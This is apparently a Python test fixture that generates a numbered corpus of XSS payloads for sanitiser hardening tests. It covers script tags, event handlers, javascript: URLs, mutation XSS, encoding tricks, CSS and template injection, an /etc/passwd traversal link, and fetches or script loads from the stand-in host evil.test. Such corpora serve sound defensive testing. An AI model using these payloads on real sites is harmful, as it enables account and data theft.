"""A corpus of cross-site scripting payloads, by family, for the hardening tests.

Each payload, if it ever became live, would do something a browser test can see: open a
dialog, call the hook ``__xss`` that the test installs in every page, log a console
mark, ask another origin (``evil.test``) for something, or mark the document. Every
payload is numbered, so a hit names the payload that got through.

Written for this project from the well-known classes of attack (the HTML parsing
specification's quirks, the sanitiser bypasses published against DOMPurify and
bleach-like allow-lists, URL-scheme and entity tricks), not copied from a list.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass

EVIL = "https://evil.test"
MARK = "xss-mark"


@dataclass(frozen=True)
class Payload:
    number: int
    family: str
    text: str


def _actions(number: int) -> str:
    """What payload number does if it runs: each kind of tell in turn."""
    return [
        f"alert({number})",
        f"__xss({number})",
        f"console.log('{MARK}-{number}')",
        f"fetch('{EVIL}/{number}')",
        f"document.documentElement.dataset.xss={number}",
        f"confirm({number})",
        f"window.__xss&&__xss({number})",
    ][number % 7]


# {A}: the action; {U}: a script URL; {E}: an address on another origin.
SCRIPT_TAGS = [
    "<script>{A}</script>",
    "<SCRIPT>{A}</SCRIPT>",
    "<ScRiPt>{A}</sCrIpT>",
    "<script src={E}/x.js></script>",
    "<script/src={E}/x.js></script>",
    "<script src=//evil.test/x.js></script>",
    "<script>/*</script>*/{A}</script>",
    "<scr<script>ipt>{A}</scr</script>ipt>",
    "<script type=module>{A}</script>",
    '<script type="text/javascript">{A}</script>',
    "<<script>{A}//<</script>",
    "<script\n>{A}</script\n>",
    "</script><script>{A}</script>",
    "<script>{A}</script",
    "<script defer>{A}</script>",
    '<script src="data:text/javascript,{A}"></script>',
    "<script>{A}<!--</script>",
    "<script\t>{A}</script>",
    "<svg><script>{A}</script></svg>",
    "<svg><script href=data:,{A} />",
    "<math><script>{A}</script></math>",
    "<script x>{A}</script x>",
]

TAG_HANDLERS = [
    ("img", "src=x", "onerror"),
    ("img", "src=x:x", "onerror"),
    ("image", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("body", "", "onresize"),
    ("details", "open", "ontoggle"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("x", "tabindex=1 autofocus", "onfocus"),
    ("a", "id=x tabindex=1 autofocus", "onfocusin"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("video", "", "onloadstart"),
    ("iframe", "", "onload"),
    ("object", "data=x", "onerror"),
    ("marquee", "", "onstart"),
    ("div", "", "onmouseover"),
    ("a", 'href="#"', "onclick"),
    ("p", "", "onpointerenter"),
    ("style", "", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("form", "", "onsubmit"),
    ("table", "background=x", "onerror"),
    ("div", "style=animation-name:x", "onanimationstart"),
    ("span", "", "onbeforeinput"),
    ("custom-tag", "contenteditable", "oninput"),
]
HANDLER_SHAPES = [
    '<{tag} {extra} {handler}="{A}">x</{tag}>',
    "<{tag} {extra} {handler}={A}>",
]

EVENT_VARIANTS = [
    "<img src=x onerror={A}>",
    "<img src=x onerror='{A}'>",
    "<img src=x onerror=`{A}`>",
    "<img/src/onerror={A}>",
    "<img src=x oNeRrOr={A}>",
    '<img src="x" onerror  =  "{A}">',
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    '<img """><script>{A}</script>">',
    "<img src=x\nonerror={A}>",
    "<img src=x\x0conerror={A}>",
    "<img src=x/onerror={A}>",
    "<img src=x onerror={A}//",
    "<img src=x onerror={A}",
    "<svg/onload={A}>",
    "<svg onload={A}//",
    "<svg><animate onbegin={A} attributeName=x dur=1s>",
    "<svg><set onbegin={A} attributeName=x to=1>",
    "<svg><image href=x onerror={A} />",
    "<details open ontoggle={A}>",
    '<iframe srcdoc="<script>{A}</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror={A}&gt;"></iframe>',
]

URLS = [
    "javascript:{A}",
    "JaVaScRiPt:{A}",
    " javascript:{A}",
    "java\tscript:{A}",
    "java&#x09;script:{A}",
    "&#106;avascript:{A}",
    "&#x6A;avascript:{A}",
    "javascript&colon;{A}",
    "jav&#x0A;ascript:{A}",
    "\x01javascript:{A}",
    "javascript://%0a{A}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>{A}</script>",
    "data:image/svg+xml,<svg onload={A}>",
    "vbscript:msgbox(1)",
    "livescript:{A}",
    "javascript:/*-/*`/*\\`/*'/*\"/**/(/* */{A})//",
]
URL_CONTEXTS = [
    '<a href="{U}">link</a>',
    "<iframe src='{U}'></iframe>",
    '<form action="{U}"><button>go</button></form>',
    '<button formaction="{U}">go</button>',
    '<object data="{U}"></object>',
    '<embed src="{U}">',
    '<base href="{U}">',
    '<meta http-equiv="refresh" content="0;url={U}">',
    '<area href="{U}">',
    '<svg><a xlink:href="{U}"><text>x</text></a></svg>',
    '<math href="{U}">x</math>',
    "[markdown link]({U})",
    "[markdown link](<{U}>)",
    "<{U}>",
    "![markdown image]({U})",
]

SVG_MATH = [
    "<svg><foreignObject><iframe srcdoc='<script>{A}</script>'></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='{A}'/></svg>#x\"/></svg>",
    "<svg><animate attributeName=href values=javascript:{A} /><a id=x><text>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{A}>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={A}>",
    "<svg><style><img src=x onerror={A}></style></svg>",
    "<svg><title><img src=x onerror={A}></title></svg>",
    "<svg><desc><img src=x onerror={A}></desc></svg>",
    "<svg><foreignObject><img src=x onerror={A}></foreignObject></svg>",
    "<math><mi xlink:href=javascript:{A}>x</mi></math>",
    "<svg><a><animate attributeName=href to=javascript:{A} /><text>x</text></a></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg"><script>{A}</script></svg>',
    "<svg><handler ev:event=load>{A}</handler></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={A}></annotation-xml></math>",
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror={A}>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={A}>",
    '<svg></p><style><a id="</style><img src=1 onerror={A}>">',
    "<math><mi><table><mi><style><img src=x onerror={A}>",
    "<template><img src=x onerror={A}></template>",
    "<textarea></textarea><img src=x onerror={A}>",
    "<title></title><img src=x onerror={A}>",
    "<xmp><img src=x onerror={A}></xmp>",
    "<listing>&lt;img src=x onerror={A}&gt;</listing>",
    '<noembed><img title="</noembed><img src=x onerror={A}>">',
    '<iframe><img title="</iframe><img src=x onerror={A}>">',
    '<style><img src="</style><img src=x onerror={A}>">',
    "<!--><img src=x onerror={A}>-->",
    "<![CDATA[><img src=x onerror={A}>]]>",
    "<?xml ?><img src=x onerror={A}>",
    "<!-- --!><img src=x onerror={A}> -->",
    "<select><style></select><img src=x onerror={A}></style>",
    "<table><tr><td><svg><desc><td></desc><img src=x onerror={A}>",
    '<a href="x"><a title="</a><img src=x onerror={A}>">',
    "<noframes><img src=x onerror={A}></noframes>",
    "<plaintext><img src=x onerror={A}>",
]

MALFORMED = [
    "<<img src=x onerror={A}>",
    '<a href="javascript:{A}"<b>x</b></a>',
    "<div <img src=x onerror={A}>>",
    '"><img src=x onerror={A}>',
    "'><img src=x onerror={A}>",
    "</title><img src=x onerror={A}>",
    "</textarea><img src=x onerror={A}>",
    "</script><img src=x onerror={A}>",
    "</style><img src=x onerror={A}>",
    "]]><img src=x onerror={A}>",
    "--><img src=x onerror={A}>",
    "<a href='x' title='\"><img src=x onerror={A}>'>x</a>",
    "<p id=x id=y onclick={A}>x</p>",
    "<img src=x onerror={A} <b>",
    "<</p>img src=x onerror={A}>",
    "<a\x00href=javascript:{A}>x</a>",
    "<img\x00src=x onerror={A}>",
    "<div/onmouseover={A}>x</div>",
    "<div\nonmouseover\n=\n{A}>x</div>",
    "<b><i><u><s><img src=x onerror={A}></s></u></i></b>",
]

ENCODED = [
    "&lt;script&gt;{A}&lt;/script&gt;",
    "&#60;script&#62;{A}&#60;/script&#62;",
    "&#x3C;img src=x onerror={A}&#x3E;",
    "\\u003cscript\\u003e{A}\\u003c/script\\u003e",
    "%3Cscript%3E{A}%3C/script%3E",
    "+ADw-script+AD4-{A}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{A}\uff1c/script\uff1e",
    "<scr\u200bipt>{A}</scr\u200bipt>",
    "\u202e<img src=x onerror={A}>",
    "&NewLine;<img src=x onerror={A}>",
    "&amp;lt;script&amp;gt;{A}&amp;lt;/script&amp;gt;",
    "\u2028<script>{A}</script>\u2029",
    "&#0000060;script&#0000062;{A}",
    "\\x3cscript\\x3e{A}\\x3c/script\\x3e",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
]

CSS = [
    '<p style="background:url(javascript:{A})">x</p>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="width:expression({A})">x</div>',
    "<style>@import '{E}/x.css';</style>",
    "<link rel=stylesheet href={E}/x.css>",
    "<style>body{{background:url({E}/p.png)}}</style>",
    "<div style=\"background-image:url('{E}/p.png')\">x</div>",
    "<p style=position:fixed;top:0;left:0;width:100%;height:100%>cover</p>",
    '<span class="content-note">a fake notice</span>',
    "<style>*{{display:none}}</style>",
    "</style><style>*{{color:red}}</style>",
    '<div style="--x:url({E}/v.png)">x</div>',
    "<svg><style>@import url({E}/x.css)</style></svg>",
    '<font face="x" style="color:red">x</font>',
    '<div style="content:url({E}/c.png)">x</div>',
]

TEMPLATES = [
    "{{{{ 7*7 }}}}",
    "{{% for x in range(10**9) %}}{{% endfor %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "${{7*7}}",
    "#{{7*7}}",
    "<%= 7*7 %>",
    "{{{{constructor.constructor('{A}')()}}}}",
    "[[7*7]]",
]

MARKDOWN = [
    "[x](javascript&#58;{A})",
    "[x]: javascript:{A}\n\n[ref link][x]",
    "[![x]({E}/p.png)]({E}/)",
    '[x]({E}/ "\\"><img src=x onerror={A}>")',
    "## <img src=x onerror={A}> heading",
    "| a | b |\n|---|---|\n| <img src=x onerror={A}> | <script>{A}</script> |",
    "Note[^n].\n\n[^n]: <img src=x onerror={A}>",
    "<div\nonclick={A}>x</div>",
    "```html\n<script>{A}</script>\n```",
    "`<img src=x onerror={A}>`",
    "    <script>{A}</script>",
    "> <img src=x onerror={A}>",
    "* <a href=javascript:{A}>list</a>",
    "<details><summary>x</summary><img src=x onerror={A}></details>",
    '[x](#"><img src=x onerror={A}>)',
]
# Links the build refuses with an error (a write-up holding one does not build).
REFUSED_LINKS = [
    '[x](source:"><img%20src=x%20onerror={A}>)',
    "[x](topic:../../../etc/passwd)",
    "[x](#fn-missing)",
]

BREAKOUTS = [
    "</script><script>{A}</script>",
    "<!--<script>",
    '"}},{{"@type":"x","x":"</script><script>{A}</script>',
    "</title><script>{A}</script>",
    "<![CDATA[</script><script>{A}</script>]]>",
    "]]></description><script>{A}</script>",
    "\"'><svg onload={A}>",
    "');{A};//",
]


def corpus() -> list[Payload]:
    """Every payload, numbered from 1, each action its own."""
    shapes: list[tuple[str, str]] = []
    shapes += [("script tag", s) for s in SCRIPT_TAGS]
    shapes += [
        ("event handler", shape.format(tag=tag, extra=extra, handler=handler, A="{A}"))
        for (tag, extra, handler), shape in itertools.product(TAG_HANDLERS, HANDLER_SHAPES)
    ]
    shapes += [("event handler", s) for s in EVENT_VARIANTS]
    shapes += [
        ("script URL", context.replace("{U}", url))
        for context, url in itertools.product(URL_CONTEXTS, URLS)
        if _worth(context, url)
    ]
    shapes += [("SVG and MathML", s) for s in SVG_MATH]
    shapes += [("mutation XSS", s) for s in MUTATION]
    shapes += [("malformed and nested tags", s) for s in MALFORMED]
    shapes += [("entity and encoding tricks", s) for s in ENCODED]
    shapes += [("CSS injection", s) for s in CSS]
    shapes += [("template injection", s) for s in TEMPLATES]
    shapes += [("Markdown", s) for s in MARKDOWN]
    shapes += [("refused", s) for s in REFUSED_LINKS]
    shapes += [("context breakout", s) for s in BREAKOUTS]
    found = []
    for number, (family, shape) in enumerate(shapes, start=1):
        text = shape.replace("{A}", _actions(number)).replace("{E}", EVIL)
        found.append(Payload(number, family, text.replace("{{", "{").replace("}}", "}")))
    return found


def _worth(context: str, url: str) -> bool:
    """Every URL in a link; the others in the contexts where a browser would load them."""
    if context.startswith(("<a href", "[markdown link](")):
        return True
    return url.lower().startswith(("javascript:", "data:text/html")) and "&" not in url
